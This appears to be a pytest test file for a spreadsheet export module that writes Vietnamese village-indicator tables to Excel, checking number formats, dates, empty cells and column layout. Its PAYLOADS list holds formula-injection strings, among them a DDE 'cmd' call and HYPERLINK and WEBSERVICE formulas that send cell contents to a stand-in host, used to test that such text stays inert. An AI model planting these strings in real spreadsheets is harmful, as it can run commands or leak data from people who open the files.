from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal
from fractions import Fraction

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from components.workbook import HEAD, SHEET, workbook

STARTS = ("=", "+", "-", "@", "\t", "\r", "=+", "-@", "\t=", "\r=", "=-", "@=")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"bấm")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example")',
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]


def opened(table: pd.DataFrame, title: str = "Các chỉ tiêu", source: str = "21/22 thôn đã báo") -> Worksheet:
    return openpyxl.load_workbook(io.BytesIO(workbook(title, source, table)))[SHEET]


def column(*values: object) -> Worksheet:
    return opened(pd.DataFrame({"Mức": pd.Series(values, dtype=object)}))


def value(given: object) -> object:
    return column(given).cell(HEAD + 1, 1).value


def test_there_are_sixty_payloads():
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_looks_like_a_formula_stays_text_everywhere(payload: str):
    sheet = opened(pd.DataFrame({payload: [payload]}), payload, payload)
    for row, at in ((1, 1), (2, 1), (HEAD, 1), (HEAD + 1, 1)):
        cell = sheet.cell(row, at)
        assert (cell.data_type, cell.quotePrefix) == ("s", True), (row, at)
        assert cell.value == payload.replace("\r", "\n")


def test_a_negative_number_stays_a_number():
    sheet = column(-3, -2.5, Decimal("-1.25"), Fraction(-1, 4), np.int64(-7), np.float64(-0.5))
    cells = [sheet.cell(row, 1) for row in range(HEAD + 1, HEAD + 7)]
    assert [cell.value for cell in cells] == [-3, -2.5, -1.25, -0.25, -7, -0.5]
    assert {cell.data_type for cell in cells} == {"n"}


@pytest.mark.parametrize(
    ("given", "kept"),
    [(Fraction(62), 62), (Fraction(1, 3), 1 / 3), (Decimal("35.4"), 35.4), (0, 0), (np.float64(12.5), 12.5)],
)
def test_every_kind_of_number_is_a_number(given: object, kept: float):
    assert value(given) == kept


@pytest.mark.parametrize(
    "nothing", [None, float("nan"), float("inf"), pd.NA, pd.NaT, np.nan, Decimal("NaN"), np.datetime64("NaT")]
)
def test_a_missing_figure_is_an_empty_cell_and_never_zero(nothing: object):
    assert value(nothing) is None


@pytest.mark.parametrize(
    ("given", "shown"),
    [(2026, "General"), (12_345, "#,##0"), (35.4, "#,##0.0#"), (62.0, "General"), (dt.date(2026, 6, 5), "dd/mm/yyyy")],
)
def test_a_year_is_not_grouped_and_a_rate_shows_at_most_two_decimals(given: object, shown: str):
    assert column(given).cell(HEAD + 1, 1).number_format == shown


def test_days_and_moments_are_dates():
    assert value(dt.date(2026, 6, 5)) == dt.datetime(2026, 6, 5)
    assert value(pd.Timestamp("2026-06-05 14:02", tz="Asia/Ho_Chi_Minh")) == dt.datetime(2026, 6, 5, 14, 2)


def test_yes_and_no_are_said_in_vietnamese():
    assert [value(True), value(np.bool_(False))] == ["Có", "Không"]


def test_control_characters_are_removed_and_lines_are_kept():
    assert value("Thôn\x00 1\x0b\x1f\x7f\ud800\uffff") == "Thôn 1"
    assert value("Thôn 1\r\nThôn 2") == "Thôn 1\nThôn 2"
    assert len(value("a" * 50_000)) < 32_767, "một ô của Excel không chứa hơn"


def test_the_sheet_is_one_list_that_filters_under_its_title_and_source():
    sheet = opened(pd.DataFrame({"Thôn": ["Thôn 1", "Thôn 2"], "Mức": [35.4, None]}))
    assert [row[0].value for row in sheet.iter_rows(1, HEAD)] == ["Các chỉ tiêu", "21/22 thôn đã báo", None, "Thôn"]
    assert all(cell.font.bold for cell in sheet[HEAD])
    assert (sheet.auto_filter.ref, sheet.freeze_panes) == (f"A{HEAD}:B{HEAD + 2}", f"B{HEAD + 1}")
    assert sheet.print_title_rows == f"${HEAD}:${HEAD}"


def test_a_column_is_as_wide_as_its_longest_text_within_bounds():
    names = ["Mã", "Chỉ tiêu", "Ghi chú"]
    sheet = opened(pd.DataFrame([["AN-02", "CBCC được bồi dưỡng số", "x" * 300]], columns=names))
    narrow, fitted, widest = (sheet.column_dimensions[letter].width for letter in "ABC")
    assert narrow < fitted < widest <= 50
    assert fitted >= len("CBCC được bồi dưỡng số")
    assert sheet.cell(HEAD + 1, 3).alignment.wrap_text


@pytest.mark.parametrize("table", [pd.DataFrame(), pd.DataFrame({"Thôn": []}), pd.DataFrame({2026: [1]})])
def test_a_table_without_rows_or_names_makes_a_workbook_too(table: pd.DataFrame):
    assert opened(table).cell(1, 1).value == "Các chỉ tiêu"


def test_two_columns_of_one_name_are_both_there():
    sheet = opened(pd.DataFrame([[1, 2]], columns=["Mức", "Mức"]))
    assert [cell.value for cell in sheet[HEAD + 1]] == [1, 2]
